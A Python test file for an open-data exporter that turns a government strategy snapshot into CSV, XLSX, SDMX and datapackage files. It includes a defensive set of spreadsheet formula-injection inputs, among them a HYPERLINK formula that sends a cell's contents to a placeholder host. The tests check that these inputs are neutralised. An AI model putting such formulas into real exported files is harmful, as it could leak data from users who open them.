"""Open data files derived from a published snapshot."""

import copy
import csv
import io
import json
import time

import pytest
from openpyxl import load_workbook

from hedef.domain.publishing.opendata import (
    LICENSE,
    datapackage,
    sdmx_csv,
    snapshot_tables,
    table_csv,
    tables_xlsx,
)
from tests.helpers.publishing import CYCLE

SNAPSHOT = {
    "cycle": CYCLE,
    "strategies": [
        {
            "code": "digital-economy-2026-2029",
            "title": "Rəqəmsal iqtisadiyyat strategiyası",
            "period": [2026, 2029],
            "measures": [
                {
                    "number": "8.1.1.1",
                    "title": "Platformanın yaradılması, “İNFORMASİYA”",
                    "lead": ["İN"],
                    "co_executors": ["AİH", "RİNN"],
                    "period_text": "2026–2029",
                    "status": "on_schedule",
                    "stage": "initial",
                    "percent": 30.0,
                }
            ],
            "indicators": [
                {
                    "number": "4.1.1",
                    "name": "Müəssisələrin sayı",
                    "unit": "ədəd",
                    "direction": "higher_is_better",
                    "baseline": None,
                    "targets": {"2026": 50, "2027": 100},
                    "observations": [{"period": "2026-S1", "year": 2025.5, "value": 21}],
                    "attainment": 0.42,
                    "progress_status": "moderate_progress",
                }
            ],
        }
    ],
    "agencies": [
        {
            "code": "in",
            "acronym": "İN",
            "name": "İqtisadiyyat Nazirliyi",
            "as_lead": 1,
            "as_co": 0,
            "on_time_share": 1.0,
        },
    ],
}


def test_tables_carry_every_measure_indicator_year_and_agency():
    measures, values, agencies, _codebook = snapshot_tables(SNAPSHOT)
    assert measures.rows[0][:5] == (
        "digital-economy-2026-2029", "8.1.1.1", "Platformanın yaradılması, “İNFORMASİYA”",
        "İN", "AİH; RİNN",
    )  # fmt: skip
    assert [(r[4], r[5], r[6], r[7]) for r in values.rows] == [
        ("2026", 50, None, "NUMBER"),
        ("2026-S1", None, 21, "NUMBER"),
        ("2027", 100, None, "NUMBER"),
    ]
    assert agencies.rows[0][0] == "in"


def test_csv_reads_back_with_azerbaijani_letters_and_commas():
    measures = snapshot_tables(SNAPSHOT)[0]
    rows = list(csv.DictReader(io.StringIO(table_csv(measures))))
    assert rows[0]["title"] == "Platformanın yaradılması, “İNFORMASİYA”"
    assert rows[0]["percent_complete"] == "30"


def test_workbook_has_a_sheet_per_table_and_the_licence():
    tables = snapshot_tables(SNAPSHOT)
    book = load_workbook(io.BytesIO(tables_xlsx(tables, SNAPSHOT)))
    assert book.sheetnames == ["about", "measures", "indicator_values", "agencies", "codebook"]
    assert book["about"]["C4"].value == LICENSE["path"]
    assert book["measures"]["B2"].value == "8.1.1.1"


def test_sdmx_csv_has_targets_and_actuals():
    rows = list(csv.DictReader(io.StringIO(sdmx_csv(SNAPSHOT))))
    assert {r["SERIES"] for r in rows} == {"TARGET", "ACTUAL"}
    actual = next(r for r in rows if r["SERIES"] == "ACTUAL")
    assert (actual["TIME_PERIOD"], actual["OBS_VALUE"], actual["REF_AREA"]) == (
        "2026-S1",
        "21",
        "AZ",
    )


def test_datapackage_describes_every_resource_under_a_licence():
    tables = snapshot_tables(SNAPSHOT)
    descriptor = json.loads(datapackage(SNAPSHOT, tables))
    assert descriptor["licenses"][0]["name"] == "CC-BY-4.0"
    assert descriptor["profile"] == "data-package"
    paths = {r["path"] for r in descriptor["resources"]}
    assert paths == {
        "measures.csv", "indicator_values.csv", "agencies.csv", "codebook.csv",
        "measures.excel.csv", "indicator_values.excel.csv", "agencies.excel.csv",
        "codebook.excel.csv", "indicator_values.sdmx.csv", "snapshot.json", "hedef.xlsx",
    }  # fmt: skip
    measures = next(r for r in descriptor["resources"] if r["name"] == "measures")
    assert [f["name"] for f in measures["schema"]["fields"]][:2] == ["strategy", "number"]


def _hostile_snapshot(text):
    """The snapshot with ``text`` as a measure title, an agency name and an indicator unit."""
    snapshot = copy.deepcopy(SNAPSHOT)
    strategy = snapshot["strategies"][0]
    strategy["measures"][0]["title"] = text
    strategy["indicators"][0]["unit"] = text
    strategy["indicators"][0]["targets"] = {"2026": -50}
    snapshot["agencies"][0]["name"] = text
    return snapshot


# (text as published, as written to CSV)
CSV_CASES = [
    ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
    ("+1", "'+1"),
    ("+1+1", "'+1+1"),
    ("-2 days", "'-2 days"),
    ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("İqtisadiyyat = iqtisadiyyat", "İqtisadiyyat = iqtisadiyyat"),
]


@pytest.mark.parametrize(("text", "written"), CSV_CASES, ids=repr)
def test_csv_text_a_spreadsheet_would_run_gets_an_apostrophe(text, written):
    """Formula-like text is neutralised in every CSV file; numbers stay numbers."""
    snapshot = _hostile_snapshot(text)
    measures, values, agencies, _codebook = snapshot_tables(snapshot)
    assert next(csv.DictReader(io.StringIO(table_csv(measures))))["title"] == written
    assert next(csv.DictReader(io.StringIO(table_csv(agencies))))["name"] == written
    value_rows = list(csv.DictReader(io.StringIO(table_csv(values))))
    assert value_rows[0]["unit"] == written
    assert value_rows[0]["target"] == "-50"
    sdmx = list(csv.DictReader(io.StringIO(sdmx_csv(snapshot))))
    assert {row["UNIT_MEASURE"] for row in sdmx} == {"_X"}  # a code, never the text
    assert sdmx[0]["OBS_VALUE"] == "-50"


@pytest.mark.parametrize("text", [text for text, _written in CSV_CASES], ids=repr)
def test_the_open_data_workbook_keeps_text_as_text(text):
    """In XLSX, the same text is a string cell with every character, never a formula."""
    snapshot = _hostile_snapshot(text)
    snapshot["cycle"]["label"] = text
    book = load_workbook(io.BytesIO(tables_xlsx(snapshot_tables(snapshot), snapshot)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert book["measures"]["C2"].value == text
    assert book["agencies"]["C2"].value == text
    assert book["about"]["B2"].value == text
    assert book["indicator_values"]["F2"].value == -50


def test_the_datapackage_says_how_csv_text_is_neutralised():
    descriptor = json.loads(datapackage(SNAPSHOT, snapshot_tables(SNAPSHOT)))
    assert "leading apostrophe" in descriptor["description"]


def test_the_codebook_lists_every_code_with_a_label_per_language():
    """Coded columns carry an enum constraint; the codebook gives each code's labels."""
    labels = {"az": {"measures.status": {"behind": "Gecikir"}}}
    *_tables, codebook = snapshot_tables(SNAPSHOT, labels)
    rows = {(r[0], r[1]): r[2:] for r in codebook.rows}
    assert rows[("measures.status", "on_schedule")][1] == "On schedule"
    assert rows[("measures.status", "behind")][0] == "Gecikir"
    assert {code for entry, code in rows if entry == "measures.stage"} == {
        "initial", "interim", "final",
    }  # fmt: skip
    descriptor = json.loads(datapackage(SNAPSHOT, snapshot_tables(SNAPSHOT)))
    measures = next(r for r in descriptor["resources"] if r["name"] == "measures")
    status = next(f for f in measures["schema"]["fields"] if f["name"] == "status")
    assert status["constraints"]["enum"] == [
        code for entry, code in rows if entry.endswith("status") and entry.startswith("measures")
    ]


def test_measures_carry_the_status_in_words_in_azerbaijani():
    labels = {"az": {"measures.status": {"on_schedule": "Qrafikə uyğun"}}}
    measures = snapshot_tables(SNAPSHOT, labels)[0]
    row = next(csv.DictReader(io.StringIO(table_csv(measures))))
    assert (row["status"], row["status_label"]) == ("on_schedule", "Qrafikə uyğun")


# (unit in the plan, SDMX UNIT_MEASURE, UNIT_MULT)
UNITS = [
    ("%", "PT", 0),
    ("ədəd", "NUMBER", 0),
    ("nəfər", "PS", 0),
    ("mln AZN", "AZN", 6),
    ("mln. manat", "AZN", 6),
    ("Mlrd manat", "AZN", 9),
    ("qutu", "_X", 0),
]


@pytest.mark.parametrize(("unit", "code", "multiplier"), UNITS)
def test_units_become_sdmx_codes(unit, code, multiplier):
    snapshot = copy.deepcopy(SNAPSHOT)
    snapshot["strategies"][0]["indicators"][0]["unit"] = unit
    rows = list(csv.DictReader(io.StringIO(sdmx_csv(snapshot))))
    assert {(r["UNIT_MEASURE"], r["UNIT_MULT"]) for r in rows} == {(code, str(multiplier))}


def test_the_excel_variant_is_the_same_csv_after_a_byte_order_mark():
    measures = snapshot_tables(SNAPSHOT)[0]
    plain, excel = table_csv(measures), table_csv(measures, bom=True)
    assert excel.encode().startswith(b"\xef\xbb\xbf")
    assert excel.encode()[3:] == plain.encode()


def test_workbook_numbers_are_numbers_and_columns_are_sized():
    book = load_workbook(io.BytesIO(tables_xlsx(snapshot_tables(SNAPSHOT), SNAPSHOT)))
    values = book["indicator_values"]
    assert [(c.value, c.data_type) for c in values[2]][5:7] == [(50, "n"), (None, "n")]
    assert values["G3"].value == 21 and values["G3"].data_type == "n"
    assert values.freeze_panes == "A2"
    measures = book["measures"]
    assert (
        measures.column_dimensions["C"].width
        == len(SNAPSHOT["strategies"][0]["measures"][0]["title"]) + 2
    )
    assert measures.column_dimensions["B"].width == 9  # "8.1.1.1" and a margin


def test_the_same_snapshot_gives_the_same_workbook_bytes():
    """The portal and an export, minutes apart, serve identical files."""
    tables = snapshot_tables(SNAPSHOT)
    first = tables_xlsx(tables, SNAPSHOT)
    time.sleep(2.1)  # zip times have a resolution of two seconds
    assert tables_xlsx(tables, SNAPSHOT) == first
